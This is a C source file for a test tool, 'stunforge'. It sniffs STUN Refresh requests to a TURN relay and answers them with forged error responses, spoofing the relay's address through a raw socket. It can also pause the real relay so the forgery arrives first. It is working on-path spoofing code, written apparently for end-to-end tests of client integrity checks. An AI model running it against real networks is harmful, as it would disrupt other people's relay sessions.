// SPDX-License-Identifier: GPL-2.0
/*
 * stunforge: an on-path attacker for the e2e tests. It watches IPv4 UDP on
 * one interface for STUN Refresh requests to the relay and answers each at
 * once with a forged error response: the request's transaction id, the
 * given error code, no MESSAGE-INTEGRITY (it cannot make one), sent from
 * the relay's address and port with a raw socket.
 *
 *   stunforge --ifname IF --relay A.B.C.D:PORT --code N --seconds S
 *             [--stall-pid PID --stall-ms MS]
 *
 * --stall-pid stands in for a distant relay where netem is missing: the
 * relay process is stopped (SIGSTOP) as the request passes and continued
 * MS later, so its real answer comes after the forgery, as it would from
 * far away. Prints "forged: N" when done. IPv4 only; the UDP checksum is
 * left 0 (allowed over IPv4).
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <getopt.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>
#include <zlib.h>

#define COOKIE 0x2112A442u
#define REFRESH_REQUEST 0x0004
#define REFRESH_ERROR 0x0114

static void put16(uint8_t *p, uint16_t v) { p[0] = v >> 8; p[1] = v; }
static void put32(uint8_t *p, uint32_t v) { put16(p, v >> 16); put16(p + 2, v); }

/* The error response to the request whose header is req: ERROR-CODE, then
 * FINGERPRINT (RFC 8489 14.7: CRC-32 xor 0x5354554e). */
static size_t forge(uint8_t *out, const uint8_t *req, unsigned code)
{
	static const char reason[8] = "forged\0\0";
	size_t n = 20;
	uint32_t crc;

	put16(out, REFRESH_ERROR);
	memcpy(out + 4, req + 4, 16);	/* cookie and transaction id */
	put16(out + n, 0x0009);
	put16(out + n + 2, 4 + 6);
	out[n + 4] = out[n + 5] = 0;
	out[n + 6] = code / 100;
	out[n + 7] = code % 100;
	memcpy(out + n + 8, reason, 8);	/* 6 bytes, padded to 8 */
	n += 16;
	put16(out + 2, n - 20 + 8);	/* the length covers FINGERPRINT */
	crc = crc32(0, out, n) ^ 0x5354554eu;
	put16(out + n, 0x8028);
	put16(out + n + 2, 4);
	put32(out + n + 4, crc);
	return n + 8;
}

static uint16_t ip_csum(const void *buf, size_t len)
{
	const uint8_t *p = buf;
	uint32_t s = 0;

	for (size_t i = 0; i + 1 < len; i += 2)
		s += (p[i] << 8) | p[i + 1];
	while (s >> 16)
		s = (s & 0xffff) + (s >> 16);
	return (uint16_t)~s;
}

int main(int argc, char **argv)
{
	const char *ifname = NULL, *relay = NULL;
	unsigned code = 437, seconds = 10, forged = 0, stall_ms = 0;
	pid_t stall = 0;
	struct sockaddr_in rl = { .sin_family = AF_INET };
	struct sockaddr_ll sll = { .sll_family = AF_PACKET,
				   .sll_protocol = htons(ETH_P_IP) };
	static const struct option opts[] = {
		{ "ifname", 1, 0, 'i' }, { "relay", 1, 0, 'r' },
		{ "code", 1, 0, 'c' }, { "seconds", 1, 0, 's' },
		{ "stall-pid", 1, 0, 'p' }, { "stall-ms", 1, 0, 'm' }, { 0 } };
	int o, sniff, raw;
	time_t end;

	while ((o = getopt_long(argc, argv, "", opts, NULL)) != -1) {
		switch (o) {
		case 'i': ifname = optarg; break;
		case 'r': relay = optarg; break;
		case 'c': code = atoi(optarg); break;
		case 's': seconds = atoi(optarg); break;
		case 'p': stall = atoi(optarg); break;
		case 'm': stall_ms = atoi(optarg); break;
		default: return 2;
		}
	}
	char host[64], *colon;

	if (!ifname || !relay || strlen(relay) >= sizeof(host)) {
		fprintf(stderr, "usage: stunforge --ifname IF --relay A:P --code N --seconds S\n");
		return 2;
	}
	strcpy(host, relay);
	colon = strrchr(host, ':');
	if (!colon || (*colon = 0, inet_pton(AF_INET, host, &rl.sin_addr) != 1)) {
		fprintf(stderr, "stunforge: bad --relay %s\n", relay);
		return 2;
	}
	rl.sin_port = htons(atoi(colon + 1));
	sll.sll_ifindex = if_nametoindex(ifname);
	sniff = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IP));
	raw = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (!sll.sll_ifindex || sniff < 0 || raw < 0 ||
	    bind(sniff, (void *)&sll, sizeof(sll))) {
		perror("stunforge");
		return 1;
	}
	end = time(NULL) + seconds;
	while (time(NULL) < end) {
		struct pollfd pfd = { .fd = sniff, .events = POLLIN };
		uint8_t in[2048], out[256];
		struct sockaddr_in to = { .sin_family = AF_INET };
		const struct iphdr *ip = (const void *)in;
		const struct udphdr *udp;
		const uint8_t *stun;
		ssize_t n;
		size_t hl, len;

		if (poll(&pfd, 1, 200) <= 0)
			continue;
		n = recv(sniff, in, sizeof(in), 0);
		if (n < 20 || ip->version != 4 || ip->protocol != IPPROTO_UDP)
			continue;
		hl = ip->ihl * 4;
		udp = (const void *)(in + hl);
		stun = in + hl + 8;
		if ((size_t)n < hl + 8 + 20 || ip->daddr != rl.sin_addr.s_addr ||
		    udp->dest != rl.sin_port ||
		    ((stun[0] << 8) | stun[1]) != REFRESH_REQUEST ||
		    ntohl(*(const uint32_t *)(stun + 4)) != COOKIE)
			continue;
		if (stall)
			kill(stall, SIGSTOP);
		/* IP + UDP + the forged message, from the relay back */
		len = forge(out + 28, stun, code);
		struct iphdr *oip = (void *)out;
		struct udphdr *oudp = (void *)(out + 20);

		memset(out, 0, 28);
		oip->version = 4;
		oip->ihl = 5;
		oip->ttl = 64;
		oip->protocol = IPPROTO_UDP;
		oip->tot_len = htons(28 + len);
		oip->saddr = ip->daddr;
		oip->daddr = ip->saddr;
		oip->check = htons(ip_csum(out, 20));
		oudp->source = udp->dest;
		oudp->dest = udp->source;
		oudp->len = htons(8 + len);
		to.sin_addr.s_addr = ip->saddr;
		if (sendto(raw, out, 28 + len, 0, (void *)&to, sizeof(to)) > 0)
			forged++;
		if (stall) {
			usleep(stall_ms * 1000);
			kill(stall, SIGCONT);
		}
	}
	printf("forged: %u\n", forged);
	return 0;
}
